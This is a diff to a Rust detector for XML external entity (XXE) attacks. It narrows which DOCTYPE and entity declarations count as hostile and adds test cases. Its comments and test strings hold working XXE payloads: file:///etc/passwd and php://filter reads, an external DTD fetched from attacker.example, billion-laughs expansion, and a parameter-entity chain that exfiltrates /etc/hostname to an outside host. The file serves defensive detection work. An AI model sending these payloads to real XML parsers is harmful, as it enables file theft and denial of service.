@@ -6,14 +6,16 @@
 //! A DOCTYPE only takes effect at the start of a document, so the value must be one: after
 //! blanks, a BOM, the XML declaration, comments and processing instructions comes `<!DOCTYPE`
 //! (or `<!ENTITY`, a DTD sent as the value). Confirmed there: an external entity
-//! (`<!ENTITY x SYSTEM "file:///etc/passwd">`, `PUBLIC "…" "…"`), any parameter entity
-//! (`<!ENTITY % x …>`, the tool of blind and error-based XXE), an entity whose text refers to two
-//! or more entities (the "billion laughs" expansion), or an external DTD subset given by an
-//! absolute URL or path (`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">`; the `PUBLIC`
-//! identifiers of XHTML, SVG or plists, and relative DTD names, are only suspicious). Any other
-//! DOCTYPE but `<!DOCTYPE html>` is suspicious, and so is an entity declaration inside text (a
-//! developer's question about DTDs, which no XML parser would read as one). A plain XML document
-//! is nothing.
+//! (`<!ENTITY x SYSTEM "file:///etc/passwd">`, `PUBLIC "…" "…"`, relative names included) unless
+//! it names a published entity set on a standards host (Drupal's RSS feeds declare XHTML's
+//! Latin-1 set from w3.org); a parameter entity that the document uses or that declares another
+//! (`<!ENTITY % x …> %x;`, the tools of blind and error-based XXE); an entity whose text refers to
+//! two or more entities (the "billion laughs" expansion); an external DTD subset read from a file
+//! or wrapper, or by `SYSTEM` from a web host that does not publish DTDs
+//! (`<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">`). `PUBLIC` identifiers (XHTML, SVG,
+//! plists, Hibernate), relative DTD names and any other DOCTYPE but `<!DOCTYPE html>` are
+//! suspicious, and so is an entity declaration inside text (a developer's question about DTDs,
+//! which no XML parser would read as one). A plain XML document is nothing.
 //!
 //! XInclude works inside a document, so a value pasted into one can use it: confirmed when the
 //! value names the XInclude namespace and has an `include` element that reads a file as text
@@ -106,23 +108,47 @@ fn scheme(uri: &[u8]) -> Option<&[u8]> {
     (n > 1 && uri[0].is_ascii_alphabetic() && uri.get(n) == Some(&b':')).then(|| &uri[..n])
 }
 
-/// Whether a system literal reaches outside the document: a scheme other than the web's (a file,
-/// a wrapper, gopher…), or, unless only `web_ok`, any absolute URL or path.
-fn reaches_out(uri: &[u8], web_ok: bool) -> bool {
+/// Hosts of published DTDs and entity sets (XHTML, SVG, MathML, DocBook, plists…), which
+/// ordinary documents name and whose fetch reads nothing of the server's.
+const STANDARD_HOSTS: &[&[u8]] = &[b"www.w3.org/", b"w3.org/", b"www.oasis-open.org/", b"docs.oasis-open.org/", b"www.docbook.org/", b"docbook.org/", b"www.apple.com/dtds/", b"java.sun.com/dtd/"];
+
+/// Where a system literal points.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Target {
+    /// A file, a wrapper, gopher…: any scheme but the web's, or an absolute path.
+    Local,
+    /// A web URL on a host other than the standards' (an attacker's DTD).
+    Web,
+    /// A published DTD or entity set.
+    Standard,
+    /// A relative name (`note.dtd`).
+    Relative,
+}
+
+fn target(uri: &[u8]) -> Target {
     let uri = uri.trim_ascii();
     match scheme(uri) {
-        Some(b"http" | b"https") => !web_ok,
-        Some(_) => true,
-        None => !web_ok && (uri.starts_with(b"/") || uri.starts_with(b"\\")),
+        Some(s @ (b"http" | b"https")) => {
+            let rest = uri[s.len() + 1..].strip_prefix(b"//").unwrap_or(&uri[s.len() + 1..]);
+            if STANDARD_HOSTS.iter().any(|h| rest.starts_with(h)) {
+                Target::Standard
+            } else {
+                Target::Web
+            }
+        }
+        Some(_) => Target::Local,
+        None if uri.starts_with(b"/") || uri.starts_with(b"\\") => Target::Local,
+        None => Target::Relative,
     }
 }
 
-/// Entity references (`&name;`, `%name;`) in an entity's text.
-fn references(text: &[u8]) -> usize {
+/// Entity references (`&name;`, `%name;`) in `text`; `percent`: parameter entity references
+/// only.
+fn references(text: &[u8], percent: bool) -> usize {
     classes::tick(text.len());
     let mut n = 0;
     for (i, &b) in text.iter().enumerate() {
-        if b == b'&' || b == b'%' {
+        if b == b'%' || (b == b'&' && !percent) {
             let name = text[i + 1..].iter().take(64).take_while(|&&c| name_byte(c) && c != b':').count();
             n += usize::from(name > 0 && text.get(i + 1 + name) == Some(&b';'));
         }
@@ -130,11 +156,14 @@ fn references(text: &[u8]) -> usize {
     n
 }
 
-/// Judges the entity declarations in `s` from `from`. Returns (an external or parameter entity,
-/// or an expansion, was declared; any entity was declared).
+/// Judges the entity declarations in `s` from `from`. Returns (an entity that reads outside the
+/// document, a parameter entity that is used or declares another, or an expansion, was declared;
+/// any entity was declared).
 fn entities(s: &[u8], from: usize) -> (bool, bool) {
     let mut any = false;
     let mut at = from;
+    // Whether the document uses a parameter entity at all, found once.
+    let mut used: Option<bool> = None;
     for _ in 0..MAX_ENTITIES {
         let Some(k) = classes::find(&s[at..], b"<!entity") else { break };
         any = true;
@@ -145,16 +174,26 @@ fn entities(s: &[u8], from: usize) -> (bool, bool) {
         }
         let name = s[i..].iter().take(64).take_while(|&&b| name_byte(b)).count();
         i = skip_blanks(s, i + name);
-        if parameter || external_id(s, i).is_some() {
-            return (true, true);
+        if let Some((system, _, end)) = external_id(s, i) {
+            // Any external entity reads a resource into the document, unless it is a published
+            // entity set (Drupal's RSS feeds declare XHTML's Latin-1 set, and never use it).
+            if system.is_none_or(|uri| target(uri) != Target::Standard) {
+                return (true, true);
+            }
+            at = end;
+            continue;
         }
         match literal(s, i) {
             Some((text, end)) => {
-                if references(text) >= 2 {
+                let builds = parameter && classes::contains(text, b"<!entity");
+                let uses = parameter && *used.get_or_insert_with(|| references(&s[from..], true) > 0);
+                if builds || uses || references(text, false) >= 2 {
                     return (true, true);
                 }
                 at = end;
             }
+            // A parameter entity cut short: nothing else declares one.
+            None if parameter => return (true, true),
             None => at = i.max(at + k + 8),
         }
     }
@@ -170,7 +209,14 @@ fn doctype(s: &[u8], at: usize) -> (bool, bool) {
     let mut external = false;
     if let Some((system, public, end)) = external_id(s, i) {
         external = true;
-        if system.is_some_and(|uri| reaches_out(uri, public)) {
+        // An external subset read from a file or an attacker's host; `PUBLIC` identifiers name
+        // published DTDs, whatever host their system literal gives.
+        let reads = |uri: &[u8]| match target(uri) {
+            Target::Local => true,
+            Target::Web => !public,
+            Target::Standard | Target::Relative => false,
+        };
+        if system.is_some_and(reads) {
             return (true, true);
         }
         i = skip_blanks(s, end);
@@ -304,6 +350,9 @@ mod tests {
             "<!DOCTYPE x [<!ENTITY p PUBLIC \"-//A//B\" \"php://filter/read=convert.base64-encode/resource=index.php\">]><x>&p;</x>",
             "<!DOCTYPE data SYSTEM \"http://attacker.example/evil.dtd\"><data>&e;</data>",
             "<!DOCTYPE x SYSTEM \"file:///etc/passwd\"><x/>",
+            "<!DOCTYPE x [<!ENTITY e SYSTEM \"config.php\">]><x>&e;</x>",
+            "<!DOCTYPE x [<!ENTITY % p PUBLIC \"-//W3C//x\" \"http://attacker.example/x.dtd\"> %p;]><x/>",
+            "<!DOCTYPE r [<!ENTITY % local PUBLIC \"x\" \"file:///usr/share/yelp/dtd/docbookx.dtd\">]><r/>",
             "<!DOCTYPE lolz [<!ENTITY lol \"lol\"><!ENTITY lol2 \"&lol;&lol;&lol;&lol;\">]><lolz>&lol2;</lolz>",
             "<!ENTITY % file SYSTEM \"file:///etc/hostname\"><!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM 'http://x.example/?x=%file;'>\">%eval;%exfil;",
             "\u{FEFF}<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><svg>&x;</svg>",
@@ -337,6 +386,11 @@ mod tests {
             "<LinearLayout><include layout=\"@layout/toolbar\"/></LinearLayout>",
             "The <!DOCTYPE> declaration is not an HTML tag; it tells the browser what to expect.",
             "#include <stdio.h>",
+            // Drupal's RSS feeds: XHTML's Latin-1 entity set, declared and never used.
+            "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!DOCTYPE rss [<!ENTITY % HTMLlat1 PUBLIC \"-//W3C//ENTITIES Latin 1 for XHTML//EN\" \"http://www.w3.org/TR/xhtml1/DTD/xhtml-lat1.ent\">]>\n<rss version=\"2.0\"><channel><title>x</title></channel></rss>",
+            "<!DOCTYPE svg SYSTEM \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\"><svg/>",
+            "<!DOCTYPE hibernate-configuration PUBLIC \"-//Hibernate/Hibernate Configuration DTD 3.0//EN\" \"http://www.hibernate.org/dtd/hibernate-configuration-3.0.dtd\"><hibernate-configuration/>",
+            "<!DOCTYPE d [<!ENTITY % draft 'IGNORE'>]><d/>",
             // Adobe Illustrator's SVG export: internal entities for its namespaces.
             "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<!-- Generator: Adobe Illustrator 15.0.0, SVG Export Plug-In  -->\n<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd\" [\n\t<!ENTITY ns_extend \"http://ns.adobe.com/Extensibility/1.0/\">\n\t<!ENTITY ns_ai \"http://ns.adobe.com/AdobeIllustrator/10.0/\">\n]>\n<svg xmlns:x=\"&ns_extend;\" xmlns:i=\"&ns_ai;\"></svg>",
         ] {
@@ -354,5 +408,6 @@ mod tests {
             let _ = xxe(t);
         }
         assert!(xxe("<!DOCTYPE x [<!ENTITY % a").0, "a parameter entity, even cut short");
+        assert_eq!(xxe("<!DOCTYPE d [<!ENTITY % draft 'IGNORE'>]><d/>"), (false, true), "declared, never used");
     }
 }
